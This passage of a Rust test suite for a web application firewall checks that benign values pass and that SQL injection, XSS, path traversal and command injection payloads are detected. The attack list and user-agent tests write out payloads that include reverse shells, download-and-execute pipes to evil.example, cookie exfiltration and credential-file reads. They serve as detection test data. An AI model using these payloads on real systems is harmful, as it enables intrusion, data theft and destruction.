        "{1,2,3}",
        "e.g. (see above) i.e. the rest",
        "I <3 Rust -> it's fast => great",
        "#hashtag @mention",
        "tar and feathers",
        "sh",
        "id",
        "curl",
        "Python, Perl and PHP developer",
        "version 1.2.3 (build 456)",
        "ping pong",
        "time is money",
        "Set the value to 42",
        "Type your name",
        "Copy that",
        "Net income rose 5%",
        "Dir. of Engineering",
        "ÀÉÎÕÜ çà et là — naïve café",
        "日本語のテキスト",
        "Привет, мир",
        "normal-looking-slug_with_underscores",
        "price:asc,name:desc",
        "fields=id,name,email",
        "status in (active, pending)",
        "(555) 123-4567",
        "1/2 cup of sugar, 3/4 cup flour",
        "¼ cup butter, ¾ cup milk",
        "path/to/file.txt",
        "a--b",
        "100-200",
        "-5",
        "1e10",
        "true",
        "null",
        "OR",
        "AND",
        "Robert'); DROP TABLE Students;-- is a famous comic",
    ];

    #[test]
    fn ordinary_values_pass_as_query_json_and_form_at_paranoia_one() {
        let w = waf(1);
        let h = headers(&[]);
        let mut failures = Vec::new();
        for v in ORDINARY.iter().filter(|v| !v.starts_with("Robert'")) {
            let mut q = String::from("v=");
            for b in v.bytes() {
                if b.is_ascii_alphanumeric() {
                    q.push(b as char);
                } else {
                    q.push_str(&format!("%{b:02X}"));
                }
            }
            if let Some(f) = w.inspect_head(&head("/api/items", Some(&q), &h), &Skips::NONE) {
                failures.push(format!("query {v:?}: {f:?}"));
            }
            let json = format!("{{\"note\":{}}}", json_string(v));
            if let Some(f) = w.inspect_body(Some(b"application/json"), json.as_bytes(), &Skips::NONE) {
                failures.push(format!("json {v:?}: {f:?}"));
            }
        }
        assert!(failures.is_empty(), "{failures:#?}");
    }

    /// Attacks written for these tests, not taken from the scoring corpora: the figures must
    /// hold on payloads the rules were not tuned on.
    const UNSEEN_ATTACKS: &[(Detector, &str)] = &[
        (Detector::Sqli, "42 AND 7301=7301"),
        (Detector::Sqli, "x') OR ('a'='a"),
        (Detector::Sqli, "1) UNION ALL SELECT username, password FROM accounts--"),
        (Detector::Sqli, "';SELECT pg_sleep(10)--"),
        (Detector::Sqli, "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)"),
        (Detector::Sqli, "admin'/**/OR/**/1=1#"),
        (Detector::Sqli, "1;DECLARE @q VARCHAR(99);SET @q='\\\\attacker\\x';EXEC master.dbo.xp_dirtree @q"),
        (Detector::Sqli, "-1 UnIoN SeLeCt NULL,NULL,table_name FROM all_tables"),
        (Detector::Sqli, "1' AND extractvalue(rand(),concat(0x3a,(select user())))-- -"),
        (Detector::Sqli, "{\"$gt\": \"\"}"),
        (Detector::Xss, "<img src=1 onerror=confirm`1`>"),
        (Detector::Xss, "<details open ontoggle=alert(1)>"),
        (Detector::Xss, "\"><svg/onload=fetch('//evil.example/'+document.cookie)>"),
        (Detector::Xss, "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
        (Detector::Xss, "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">"),
        (Detector::Xss, "';alert(String.fromCharCode(88,83,83))//"),
        (Detector::Xss, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
        (Detector::Xss, "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>"),
        (Detector::Xss, "%3Cscript%3Ewindow.location='https://evil.example/?c='+document.cookie%3C/script%3E"),
        (Detector::Xss, "<body background=\"javascript:alert(1)\">"),
        (Detector::PathTraversal, "....//....//....//etc/passwd"),
        (Detector::PathTraversal, "..%252f..%252f..%252fetc%252fpasswd"),
        (Detector::PathTraversal, "%c0%ae%c0%ae/%c0%ae%c0%ae/windows/win.ini"),
        (Detector::PathTraversal, "..\\..\\..\\inetpub\\wwwroot\\web.config"),
        (Detector::PathTraversal, "/proc/self/cwd/app/config.yml"),
        (Detector::PathTraversal, "file:///c:/windows/system32/drivers/etc/hosts"),
        (Detector::PathTraversal, "php://filter/convert.base64-encode/resource=../../../../etc/shadow"),
        (Detector::PathTraversal, "/home/deploy/.aws/credentials"),
        (Detector::CommandInjection, "127.0.0.1; nc -e /bin/sh 10.0.0.5 4444"),
        (Detector::CommandInjection, "a | busybox wget http://evil.example/x -O- | sh"),
        (Detector::CommandInjection, "$(curl -s http://evil.example/p.sh|bash)"),
        (Detector::CommandInjection, "x`uname -a`"),
        (Detector::CommandInjection, "; /usr/bin/id"),
        (Detector::CommandInjection, "|| ping -c 10 127.0.0.1 ||"),
        (Detector::CommandInjection, "& type C:\\Windows\\win.ini"),
        (Detector::CommandInjection, "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://e/x')\""),
        (Detector::CommandInjection, "test%0Acat%20/etc/hostname"),
        (Detector::CommandInjection, ";{echo,aWQ=}|{base64,-d}|bash"),
        (Detector::CommandInjection, "$(printf '\\x69\\x64')"),
        (Detector::CommandInjection, "x;w'h'o'a'm'i"),
    ];

    #[test]
    fn attacks_written_for_these_tests_are_caught_at_paranoia_one() {
        let w = waf(1);
        let h = headers(&[]);
        let mut missed = Vec::new();
        for (family, v) in UNSEEN_ATTACKS {
            let json = format!("{{\"q\":{}}}", json_string(v));
            let via_json = w.inspect_body(Some(b"application/json"), json.as_bytes(), &Skips::NONE);
            let mut q = String::from("q=");
            for b in v.bytes() {
                q.push_str(&format!("%{b:02X}"));
            }
            let via_query = w.inspect_head(&head("/api", Some(&q), &h), &Skips::NONE);
            if via_json.is_none() || via_query.is_none() {
                missed.push(format!("{family:?}: {v}"));
            }
        }
        assert!(missed.is_empty(), "{missed:#?}");
    }

    #[test]
    fn the_famous_bobby_tables_is_an_injection() {
        let v = ORDINARY.iter().find(|v| v.starts_with("Robert'")).unwrap();
        let json = format!("{{\"name\":{}}}", json_string(v));
        assert!(waf(1).inspect_body(Some(b"application/json"), json.as_bytes(), &Skips::NONE).is_some());
    }

    fn json_string(v: &str) -> String {
        let mut s = String::from("\"");
        for c in v.chars() {
            match c {
                '"' => s.push_str("\\\""),
                '\\' => s.push_str("\\\\"),
                '\n' => s.push_str("\\n"),
                '\r' => s.push_str("\\r"),
                c => s.push(c),
            }
        }
        s.push('"');
        s
    }

    #[test]
    fn common_user_agents_and_headers_pass() {
        let w = waf(1);
        for ua in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
            "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
            "curl/8.5.0",
            "Wget/1.21.4",
            "python-requests/2.31.0",
            "Go-http-client/2.0",
            "okhttp/4.12.0",
            "PostmanRuntime/7.36.0",
            "kube-probe/1.29",
            "grpc-java-netty/1.60.0",
            "aws-sdk-go-v2/1.24.0 os/linux lang/go#1.21.5 md/GOOS#linux md/GOARCH#amd64",
            "Apache-HttpClient/4.5.14 (Java/17.0.9)",
            // Libraries' defaults that name their language first.
            "Python/3.11 websockets/17.4",
            "Python/3.11 aiohttp/3.9.1",
            "Node/20 ws/8",
            "Java/17 okhttp/4",
            "Ruby/3.2 faraday/2",
            "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
            "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
        ] {
            let h = headers(&[("user-agent", ua)]);
            assert_eq!(w.inspect_head(&head("/", None, &h), &Skips::NONE), None, "{ua}");
        }
        let h = headers(&[
            ("accept", "application/json, text/plain, */*"),
            ("accept-encoding", "gzip, deflate, br, zstd"),
            ("content-type", "application/json; charset=utf-8"),
            ("x-forwarded-for", "203.0.113.7, 10.0.0.1"),
            ("x-forwarded-proto", "https"),
            ("if-none-match", "W/\"5e15153d-120f\""),
            ("cache-control", "no-cache, no-store, must-revalidate"),
            ("sec-ch-ua", "\"Chromium\";v=\"120\", \"Not?A_Brand\";v=\"24\""),
            ("tracestate", "congo=t61rcWkgMzE,rojo=00f067aa0ba902b7"),
            ("x-amz-date", "20240101T000000Z"),
            ("range", "bytes=0-1023"),
            ("origin", "https://app.example.com"),
            ("referer", "https://app.example.com/orders?sort=-date&filter=status:open"),
        ]);
        assert_eq!(w.inspect_head(&head("/api/v1/orders", Some("page=1"), &h), &Skips::NONE), None);
    }

    #[test]
    fn a_query_attack_is_reported_with_its_location_level_and_a_short_fragment() {
        let h = headers(&[]);
        let f = waf(1).inspect_head(&head("/search", Some("q=1%27+OR+%271%27%3D%271&page=1"), &h), &Skips::NONE);
        let f = f.expect("finding");
        assert_eq!(f.detector, Detector::Sqli);
        assert_eq!(f.location, Location { kind: LocationKind::QueryValue, name: "q".into() });
        assert_eq!(f.paranoia, 1);
        assert!(f.fragment.len() <= MAX_FRAGMENT + 8, "{}", f.fragment);
    }

    #[test]
    fn an_sql_finding_shows_the_attack_however_much_text_comes_before_it() {
        let padded =
            format!("{}' UNION SELECT username, password FROM users--", "Great product, would buy again. ".repeat(3));
        let body = serde_json::json!({"review": padded}).to_string();
        let f = waf(1).inspect_body(Some(b"application/json"), body.as_bytes(), &Skips::NONE).expect("finding");
        assert!(f.fragment.starts_with("' UNION SELECT username"), "{f:?}");
    }

    #[test]
    fn a_finding_in_a_credential_or_a_cookie_says_its_length_never_its_text() {
        let w = waf(1);
        let attack = r#"{"user":"alice","account":{"Password":"k(faqD-e'|Mq;G^:3?o"}}"#;
        let f = w.inspect_body(Some(b"application/json"), attack.as_bytes(), &Skips::NONE).expect("finding");
        assert_eq!(f.fragment, "[redacted: 19 bytes]", "{f:?}");
        let h = headers(&[("cookie", "sid=s3cr3tSessionT0ken' OR '1'='1")]);
        let f = w.inspect_head(&head("/", None, &h), &Skips::NONE).expect("finding");
        assert_eq!(f.location.kind, LocationKind::CookieValue);
        assert!(f.fragment.starts_with("[redacted: ") && !f.fragment.contains("T0ken"), "{f:?}");
        let f = w.inspect_head(&head("/", Some("api_key=x%27+OR+%271%27%3D%271"), &headers(&[])), &Skips::NONE);
        assert!(f.expect("finding").fragment.starts_with("[redacted: "));
        // Other values show what matched.
        let f = w.inspect_head(&head("/", Some("q=x%27+OR+%271%27%3D%271"), &headers(&[])), &Skips::NONE);
        assert!(f.expect("finding").fragment.contains("OR"));
    }

    #[test]
    fn exclusions_skip_a_detector_for_one_parameter_or_everywhere() {
        let h = headers(&[]);
        let view = head("/search", Some("q=1%27+OR+%271%27%3D%271"), &h);
        let w = waf(1);
        let sqli = DetectorSet::EMPTY.with(Detector::Sqli);
        let for_q = [ParamSkip { name: "q", detectors: sqli }];
        let for_other = [ParamSkip { name: "other", detectors: sqli }];
        assert_eq!(w.inspect_head(&view, &Skips::new(DetectorSet::EMPTY, &for_q)), None);
        assert_eq!(w.inspect_head(&view, &Skips::new(sqli, &[])), None);
        assert!(w.inspect_head(&view, &Skips::new(DetectorSet::EMPTY, &for_other)).is_some());
        // Rack 2 and Perl's CGI read `q=1;id=...` as two parameters: the exclusion for `q`
        // does not cover `id`, in a query or a form.
        for query in [
            "q=1;id=1%27+OR+%271%27%3D%271",
            "q=1;;id=1%27+OR+%271%27%3D%271;x=2",
            "page=2&q=;id=1%27+OR+%271%27%3D%271",
        ] {
            let view = head("/search", Some(query), &h);
            let f = w.inspect_head(&view, &Skips::new(DetectorSet::EMPTY, &for_q)).unwrap_or_else(|| panic!("{query}"));
            assert_eq!((f.detector, f.location.name.as_str()), (Detector::Sqli, "id"), "{query}");
            let body = w.inspect_body(None, query.as_bytes(), &Skips::new(DetectorSet::EMPTY, &for_q));
            assert_eq!(body.map(|f| f.location), Some(Location { kind: LocationKind::FormValue, name: "id".into() }));
        }
        let for_q_and_id = [ParamSkip { name: "q", detectors: sqli }, ParamSkip { name: "id", detectors: sqli }];
        let view = head("/search", Some("q=1;id=1%27+OR+%271%27%3D%271"), &h);
        assert_eq!(w.inspect_head(&view, &Skips::new(DetectorSet::EMPTY, &for_q_and_id)), None);
        let ordinary = head("/search", Some("sort=name;asc&filter=a;b;c&q=O%27Brien"), &h);
        assert_eq!(w.inspect_head(&ordinary, &Skips::NONE), None);
    }

    #[test]
    fn disabled_detectors_never_fire() {
        let h = headers(&[]);
        let view = head("/search", Some("q=%3Cscript%3Ealert(1)%3C/script%3E"), &h);
        let only_sqli = Waf::new(WafSettings { paranoia: 4, detectors: DetectorSet::of(&[Detector::Sqli]) }).unwrap();
        assert_eq!(only_sqli.inspect_head(&view, &Skips::NONE), None);
        assert_eq!(waf(1).inspect_head(&view, &Skips::NONE).unwrap().detector, Detector::Xss);
    }

    #[test]
    fn paranoia_out_of_range_is_refused() {
        for pl in [0, 5, 255] {
            assert_eq!(
                Waf::new(WafSettings { paranoia: pl, detectors: DetectorSet::ALL }).unwrap_err(),
                WafError::Paranoia(pl)
            );
        }
    }

    #[test]
    fn detector_names_round_trip() {
        for d in Detector::ALL {
            assert_eq!(Detector::parse(d.as_str()), Some(d));
        }
        assert_eq!(Detector::parse("ldap"), None);
    }

    #[test]
    fn headers_are_read_by_class_cookies_as_pairs_and_credentials_never() {
        let w = waf(1);
        let attack = |name: &'static str, value: &str| {
            let h = headers(&[(name, value)]);
            w.inspect_head(&head("/", None, &h), &Skips::NONE)
        };
        assert_eq!(attack("user-agent", "' or 1=1 --").unwrap().detector, Detector::Sqli);
        assert_eq!(attack("x-custom", "' or 1=1 --"), None, "SQLi in other headers waits for PL2");
        assert_eq!(attack("authorization", "' or 1=1 --"), None);
        let f = attack("cookie", "a=1; id=1' union select password from users--").unwrap();
        assert_eq!(f.location, Location { kind: LocationKind::CookieValue, name: "id".into() });
        // A quoted value is read as cookie parsers hand it to the app: without its quotes.
        for quoted in ["id=\"1 AND 1=1\"", "a=1; id=\"admin'--\"", "id=\"1) or (1=1\""] {
            assert_eq!(attack("cookie", quoted).map(|f| f.detector), Some(Detector::Sqli), "{quoted}");
        }
        assert_eq!(attack("cookie", "theme=\"dark mode\"; lang=\"en-GB\""), None);
        assert_eq!(attack("x-forwarded-host", "<script>alert(1)</script>").unwrap().detector, Detector::Xss);
        // A User-Agent's products are not read as a command line; anything else in it is.
        for ua in [
            "curl/8; id",
            "curl/8; cat /etc/passwd",
            "Python/3.11 $(id)",
            "Wget/1.21 | sh",
            "() { :; }; /bin/bash -c id",
            "Mozilla/5.0 (X11; `id`) Gecko/20100101",
            "Mozilla/5.0 (compatible; wget evil.example/x.sh)",
            "curl/8 (x",
            // Bare words, a command line's stuff, are read as before: no product without its version.
            "nc -e sh evil.example 4444",
            "bash -i",
            "sh -c id",
            "wget -O- evil.example/s",
            "curl -o x.php evil.example/s",
            "rm -rf ~",
            "perl -e",
            "whoami",
            "curl/8 -o x.php evil.example/s",
        ] {
            assert!(attack("user-agent", ua).is_some(), "{ua}");
        }
    }

    #[test]
    fn the_waf_is_shareable_between_threads() {
        fn shareable<T: Send + Sync>() {}
        shareable::<Waf>();
    }

    #[test]
    fn a_grpc_message_is_not_read_as_text_but_a_text_body_under_a_grpc_label_is() {
        for pl in 1..=4 {
            let waf = waf(pl);
            let grpc = if pl >= 2 { BodyReading::UnlessGrpcFramed } else { BodyReading::IfJson };
            for ct in [
                "application/grpc",
                "application/grpc+proto",
                "application/grpc-web",
                "application/grpc+json",
                "application/grpc-web-text",
                "application/connect+proto",
            ] {
                assert_eq!(waf.reads_body(Some(ct.as_bytes())), grpc, "{ct} at {pl}");
            }
            let text = if pl >= 2 { BodyReading::IfText } else { BodyReading::IfJson };
            for ct in ["text/plain", "application/octet-stream", "image/gif", "application/connect"] {
                assert_eq!(waf.reads_body(Some(ct.as_bytes())), text, "{ct} at {pl}");
            }
            assert_eq!(waf.reads_body(Some(b"application/json")), BodyReading::Whole);
        }
        // A gRPC message's frame header is no finding, at the paranoia that reads every text;
        // text under the same label is read.
        let message = b"\x00\x00\x00\x00\x05hello";
        assert_eq!(waf(2).inspect_body(Some(b"application/grpc"), message, &Skips::NONE), None);
        // gRPC's JSON codec frames its messages too: no document for the JSON parser to refuse.
        let json_message = b"\x00\x00\x00\x00\x0d{\"name\":\"x\"}";
        for pl in 1..=4 {
            assert_eq!(waf(pl).inspect_body(Some(b"application/grpc+json"), json_message, &Skips::NONE), None, "{pl}");
        }
        let attack = b"q=1' UNION SELECT password FROM users--";
        for ct in ["application/grpc", "application/octet-stream", "image/png"] {
            assert!(waf(2).inspect_body(Some(ct.as_bytes()), attack, &Skips::NONE).is_some(), "{ct}");
        }
    }
}
